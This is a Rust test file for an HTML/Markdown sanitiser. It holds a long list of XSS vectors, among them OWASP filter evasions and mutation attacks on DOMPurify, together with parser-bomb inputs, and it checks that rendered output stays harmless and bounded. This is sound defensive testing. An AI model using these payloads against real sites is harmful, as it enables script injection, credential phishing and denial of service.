//! Attacks that are known from sanitisers of others, and what costs a parser far more than it costs its sender.

use super::*;

/// Pieces of attacks, for gluing.
pub(super) const PIECES: &[&str] = &[
    "<script>alert(1)</script>",
    "<script",
    "</script>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<mglyph>",
    "<style>",
    "</style>",
    "<title>",
    "</title>",
    "<textarea>",
    "<noscript>",
    "</noscript>",
    "<template>",
    "<select>",
    "<option>",
    "<plaintext>",
    "<xmp>",
    "<iframe srcdoc=\"",
    "<img src=x onerror=alert(1)>",
    "<form><input name=id>",
    "<button formaction=javascript:alert(1)>",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "<?xml",
    "<a href=\"javascript:alert(1)\">",
    "<a href='https://a.example' id=x name=y class=z>",
    "<a href=\" &#106;avascript:alert(1)\">",
    "<a href=\"data:text/html,x\">",
    "<a href=\"/relative\">",
    "<a href=//b.example>",
    "<p style=\"position:fixed\">",
    "<b id=\"a\" onclick='x'>",
    "\"",
    "'",
    "`",
    "<",
    ">",
    "&",
    "&lt;",
    "&#x6a;",
    "&nbsp;",
    "\0",
    "=",
    "/",
    "<annotation-xml encoding=\"text/html\">",
    "<foreignObject>",
    "<desc>",
    "<frameset>",
    "<html>",
    "<body>",
    "<head>",
    "<image>",
    "<isindex>",
    "<listing>",
    "<pre>\n\n",
    "<ruby><rt>",
    "<nobr>",
    "<center>",
    "<object>",
    "<applet>",
    "<marquee>",
    "<meta http-equiv=refresh>",
    "<base href=//b.example>",
    "<link rel=stylesheet href=//b.example>",
    "https://a.example/\"onmouseover=x",
    "[a](javascript:x)",
    "![a](data:image/svg+xml,x)",
    "<javascript:alert(1)>",
    "# ",
    "> ",
    "- ",
    "```\n",
    "\n\n",
    "    ",
    "\\",
    "*",
    "_",
    "[",
    "](",
    ")",
];

/// Whole attacks: OWASP's filter evasion list, the mutation attacks against DOMPurify and others, and our own.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://b.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<body onload=alert(1)>hello",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<a href=\"view-source:https://a.example\">x</a>",
    "<a href=\"blob:https://a.example/1\">x</a>",
    "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
    "<a href=https://a.example target=_top rel=opener>x</a>",
    "<form action=\"https://b.example\"><input type=password name=p><button>Sign in</button></form>",
    "<button form=f formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<style>@import 'https://b.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<link rel=stylesheet href=https://b.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://b.example\">",
    "<base href=\"https://b.example/\">",
    "<div id=main class=notice name=x>x</div>",
    "<a id=attributes name=cookie>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><desc><template><style></desc><img src=x onerror=alert(1)>",
    "<svg><foreignObject><p title=\"</p><script>alert(1)</script>\">",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><title><table><caption></caption></table></title><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<a><table><a href=\"javascript:alert(1)\">x</a></table></a>",
    "<p><a href='x'><p><a href='javascript:alert(1)'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=\"https://b.example/x.js\"></script>",
    "<b \u{0c}onmouseover=alert(1)>x</b>",
    "<b/onmouseover=alert(1)>x</b>",
    "\u{feff}<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1) \"t\"",
    "![x](\"onerror=alert(1)//)",
    "[x](https://a.example \"\" onmouseover=alert(1) \"\")",
    "https://a.example/\"><script>alert(1)</script>",
    "https://a.example/'onmouseover='alert(1)",
];

#[test]
fn known_attacks_are_harmless_in_every_format() {
    for vector in VECTORS {
        for format in [BodyFormat::Text, BodyFormat::Markdown, BodyFormat::Html] {
            check(vector, format);
        }
        // The tokenizer above is the one the sanitiser uses; so once more, without it.
        let html = html(vector, BodyFormat::Html);
        let tags: String = html.split('<').skip(1).filter_map(|it| it.split('>').next()).collect();
        for word in [
            "onerror", "onload", "script", "style", "svg", "img", "iframe", "form", "srcdoc",
        ] {
            assert!(!tags.contains(word), "{vector} gave {html}");
        }
    }
}

#[test]
fn the_judge_sees_an_attack() {
    for html in [
        "<img src=x>",
        "<p onclick=x>",
        "<a href=\"javascript:x\">",
        "<p id=x>",
        "<!-- x -->",
        "<p><script>",
    ] {
        assert!(std::panic::catch_unwind(|| check_harmless(html)).is_err(), "{html}");
    }
}

/// Small for the sender; without care, minutes and gigabytes for the parser.
fn bombs() -> Vec<(&'static str, String)> {
    let numbered = |make: &dyn Fn(usize) -> String, size: usize| {
        let mut out = String::new();
        for index in 0.. {
            if out.len() >= size {
                break;
            }
            out.push_str(&make(index));
        }
        out
    };
    // Enough for everything that multiplies to take minutes: the parser is not optimised here.
    let size = 48 * 1024;
    let formatting = numbered(&|it| format!("<b id={it}>"), size / 2);
    vec![
        ("deep", "<div>".repeat(size / 5)),
        ("deep lists", "<ul><li>".repeat(size / 8)),
        ("unclosed formatting", numbered(&|it| format!("<b id={it}><p>"), size)),
        (
            "formatting, then paragraphs",
            format!("{formatting}{}", "<p>x".repeat(size / 8)),
        ),
        (
            "formatting in tables",
            numbered(&|it| format!("<table><b id={it}>"), size),
        ),
        ("foster parents", format!("<table>{}", "<b>x<i>y".repeat(size / 8))),
        (
            "adoption",
            numbered(&|it| format!("<a href=https://a.example/{it}><div></a>"), size),
        ),
        (
            "attributes",
            format!("<p {}>", numbered(&|it| format!("a{it:x} "), size)),
        ),
        (
            "slashed attributes",
            format!("<p {}>", numbered(&|it| format!("a{it:x}/"), size)),
        ),
        ("cells", "<table><tr><td>".repeat(size / 15)),
        ("entities", "&amp;".repeat(size / 5)),
        ("brackets", "<".repeat(size)),
        ("ends", "</b></p>".repeat(size / 8)),
        ("quotes", "> ".repeat(size / 8)),
        ("emphasis", "*a **b ".repeat(size / 28)),
        ("links", "[".repeat(size / 4)),
        ("addresses", "a.".repeat(size / 8)),
    ]
}

#[test]
fn bombs_do_not_go_off() {
    for (name, source) in bombs() {
        for format in [BodyFormat::Text, BodyFormat::Markdown, BodyFormat::Html] {
            let body = render(&source, format);
            let most = (body.source.len() * 8).max(256 * 1024);
            assert!(
                body.html.as_str().len() <= most,
                "{name} grew to {}",
                body.html.as_str().len()
            );
        }
    }
}
